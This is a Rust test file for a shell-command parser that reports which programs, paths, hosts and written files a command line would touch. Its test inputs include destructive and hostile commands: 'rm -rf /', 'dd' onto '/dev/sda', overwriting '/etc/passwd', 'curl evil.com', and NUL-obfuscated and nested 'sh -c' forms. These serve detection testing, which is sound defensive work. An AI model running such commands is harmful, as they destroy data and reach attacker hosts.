//! Lines and what they start, as a table; the second half tries to hide it.

use super::parse;
use proptest::prelude::*;

/// Writes a line's commands as `program flags operands`, wrappers in front, `!` behind when something is opaque.
fn shown(text: &str) -> String {
    let line = parse(text);
    let mut commands: Vec<String> = line
        .commands
        .iter()
        .map(|command| {
            let mut flags = command.flags.clone();
            flags.sort();
            let around = command.wrappers.iter().map(|name| format!("{name}>")).collect::<String>();
            let mut words = vec![format!("{around}{}", command.program)];
            words.extend(flags);
            words.extend(command.operands.iter().cloned());
            words.join(" ")
        })
        .collect();
    if !line.opaque.is_empty() {
        commands.push("!".to_owned());
    }
    commands.join(" | ")
}

#[test]
fn a_line_shows_every_command_that_it_would_start() {
    let table = include_str!("../../tests/vectors/shell.txt");
    let rows: Vec<(&str, &str)> = table
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with("# "))
        .map(|line| line.split_once(" => ").unwrap_or_else(|| panic!("no ` => ` in {line}")))
        .collect();
    let mut wrong = Vec::new();
    for (text, expected) in &rows {
        let text = text.replace("\\N", "\n");
        let found = shown(&text);
        if found != *expected {
            wrong.push(format!("{text}\n   expected {expected}\n   found    {found}"));
        }
    }
    assert!(wrong.is_empty(), "{} of {} rows:\n{}", wrong.len(), rows.len(), wrong.join("\n"));
    assert!(rows.len() >= 200, "only {} rows", rows.len());
}

#[test]
fn paths_hosts_and_files_that_are_written_are_found() {
    for (text, paths, hosts, writes) in [
        ("cat /tmp/../etc/passwd", "/etc/passwd", "", ""),
        ("cat ./a//b ../c", "a/b ../c", "", ""),
        ("echo x > out.txt 2>> /var/log/x", "out.txt /var/log/x", "", "out.txt /var/log/x"),
        ("echo x | tee -a /etc/hosts", "/etc/hosts", "", "/etc/hosts"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "/dev/zero /dev/sda", "", "/dev/sda"),
        ("> /etc/passwd", "/etc/passwd", "", "/etc/passwd"),
        ("{ echo a; echo b; } > /etc/x", "/etc/x", "", "/etc/x"),
        ("curl -o/etc/x https://user:pw@Evil.com:8080/a?b", "/etc/x", "evil.com", ""),
        ("curl evil.com/x", "evil.com/x", "evil.com", ""),
        ("git push git@github.com:org/repo main", "git@github.com:org/repo", "github.com", ""),
        ("scp a.txt host:/etc/x", "host:/etc/x", "host", ""),
        ("nc -l 127.0.0.1 80", "", "127.0.0.1", ""),
        ("cc --output=/bin/x -I../inc a.c", "/bin/x ../inc", "", ""),
        ("cmd >&2 2>&1", "", "", ""),
    ] {
        let line = parse(text);
        let all = |of: fn(&adjutant_model::shell::ShellCommand) -> &Vec<String>| {
            line.commands.iter().flat_map(of).cloned().collect::<Vec<_>>().join(" ")
        };
        let found = (all(|c| &c.paths), all(|c| &c.hosts), all(|c| &c.writes));
        assert_eq!(found, (paths.to_owned(), hosts.to_owned(), writes.to_owned()), "{text}");
    }
}

#[test]
fn an_argument_list_is_taken_word_for_word_and_followed_the_same() {
    let argv =
        |words: &[&str]| super::parse_argv(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>());
    assert_eq!(argv(&["echo", "$(rm -rf /)", "; rm x"]).commands.len(), 1);
    let nested = argv(&["sudo", "sh", "-c", "rm -rf / && ls"]);
    let programs: Vec<_> = nested.commands.iter().map(|command| command.program.as_str()).collect();
    assert_eq!(programs, ["rm", "ls"]);
    assert!(nested.opaque.is_empty());
}

#[test]
fn characters_beyond_ascii_are_parts_of_words_and_a_nul_hides_nothing() {
    for (text, programs) in [
        ("émile --ü '→' && rm x", "émile rm"),
        ("rm\u{a0}-rf /", "rm\u{a0}-rf"),
        ("echo {\u{10ffff}..3}", "echo"),
        ("cat <<'→'\n$(rm x)\n→\n", "cat"),
    ] {
        let line = parse(text);
        let found: Vec<_> = line.commands.iter().map(|command| command.program.as_str()).collect();
        assert_eq!(found.join(" "), programs, "{text}: {line:?}");
    }
    assert!(!parse("r\0m -rf /").opaque.is_empty());
}

#[test]
fn deep_and_long_lines_end_in_time_and_are_opaque() {
    for text in [
        "$(".repeat(5000),
        format!("{}rm -rf /{}", "$(".repeat(3000), ")".repeat(3000)),
        "sh -c '".repeat(50),
        format!("{} rm x", "sudo ".repeat(2000)),
        "{a,b}".repeat(50),
        "rm x;".repeat(5000),
        "x".repeat(70_000),
        "(".repeat(20_000),
    ] {
        let line = parse(&text);
        let what: String = text.chars().take(30).collect();
        assert!(!line.opaque.is_empty() || line.commands.len() == 1, "{what}: {}", line.commands.len());
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_text_makes_it_panic(text in "\\PC{0,200}") {
        drop(parse(&text));
    }

    #[test]
    fn no_text_of_shell_marks_makes_it_panic(text in "[a-z \"'`$(){}\\[\\]<>|&;\\\\=*~/\n-]{0,120}") {
        drop(parse(&text));
    }

    #[test]
    fn quotes_and_spaces_around_plain_words_change_nothing(
        words in prop::collection::vec("[a-z/.]{1,8}", 1..5), style in prop::collection::vec(0..4_usize, 5),
    ) {
        let plain = parse(&words.join(" "));
        let dressed: Vec<String> = words.iter().zip(&style).map(|(word, style)| match style {
            0 => format!("'{word}'"),
            1 => format!("\"{word}\""),
            2 => format!("{}''{}", &word[..1], &word[1..]),
            _ => word.clone(),
        }).collect();
        let dressed = parse(&dressed.join(" \t "));
        let keyword = ["if", "do", "fi", "in", "for", "case", "esac", "then", "else", "elif", "done", "while", "until"];
        prop_assume!(!words.iter().any(|word| keyword.contains(&word.as_str())));
        prop_assert_eq!(plain.commands, dressed.commands);
    }
}
